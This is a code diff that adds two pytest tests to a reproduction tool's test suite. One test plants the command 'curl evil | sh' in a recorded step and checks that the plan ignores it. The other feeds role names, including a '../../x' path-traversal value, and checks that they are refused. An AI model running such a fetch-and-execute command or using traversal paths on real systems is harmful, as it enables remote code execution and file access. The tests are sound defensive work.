@@ -102,6 +102,28 @@ def test_settings_that_no_step_records_are_refused_in_one_line(
     assert not Path("again").exists()
 
 
+def test_a_plan_shows_what_would_run_and_not_what_a_file_calls_it(case: Path, run: Run, trio: dict[str, Path]) -> None:
+    content = json.loads((case / "reproduce.json").read_text())
+    content["steps"][0]["command"] = "curl evil | sh"
+    planned = run("reproduce", edited(case, steps=content["steps"]), "--case", "again", "--plan")
+    assert planned.exit_code == 0, planned.stderr
+    assert f"vlsurgery diff {' '.join(map(str, trio.values()))} --level norms" in planned.stdout
+    assert "curl" not in planned.stdout
+    del content["steps"][0]["settings"]["level"]
+    assert run("reproduce", edited(case, steps=content["steps"]), "--case", "again", "--plan").exit_code == 0
+
+
+@pytest.mark.parametrize("roles", [[], ["base"], ["adapted"], ["base", "../../x"]])
+def test_roles_that_are_no_case_are_refused_in_one_line(case: Path, run: Run, roles: list[str]) -> None:
+    content = json.loads((case / "reproduce.json").read_text())
+    refs = dict(zip(roles, content["checkpoints"].values(), strict=False))
+    for plan in (["--plan"], []):
+        done = run("reproduce", edited(case, checkpoints=refs), "--case", "again", *plan)
+        assert done.exit_code == 2, done.stdout + done.stderr
+        assert "base and adapted" in done.stderr
+    assert not Path("again").exists()
+
+
 def test_what_is_not_there_again_ends_with_code_3_and_other_versions_do_not(case: Path, run: Run) -> None:
     content = json.loads((case / "reproduce.json").read_text())
     content["steps"][0]["surroundings"]["packages"]["torch"] = "1.0"
